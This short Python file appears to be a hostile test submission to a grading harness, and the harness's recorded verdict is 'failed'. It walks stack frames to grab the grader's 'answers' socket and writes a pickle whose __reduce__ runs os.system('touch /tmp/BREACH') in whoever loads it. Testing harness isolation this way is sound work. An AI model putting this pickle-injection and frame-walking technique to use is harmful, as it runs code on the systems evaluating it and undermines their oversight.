# Sends a pickle that would run a command in whoever loads it.
# verdict: failed
# says: The answer does not have the form that was asked for.

import os
import struct
import sys


def the_wire():
    frame = sys._getframe()
    while frame.f_code.co_name != "_serve":
        frame = frame.f_back
    return frame.f_locals["answers"].fileno()


def frame(text, blob=b""):
    return struct.pack(">II", len(text), len(blob)) + text + blob


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/BREACH",)


def answer(x):
    import pickle

    bomb = pickle.dumps(Run())
    os.write(the_wire(), frame(b'{"pickle":[%d]}' % len(bomb), bomb))
    os.write(the_wire(), bomb)
    return Run()
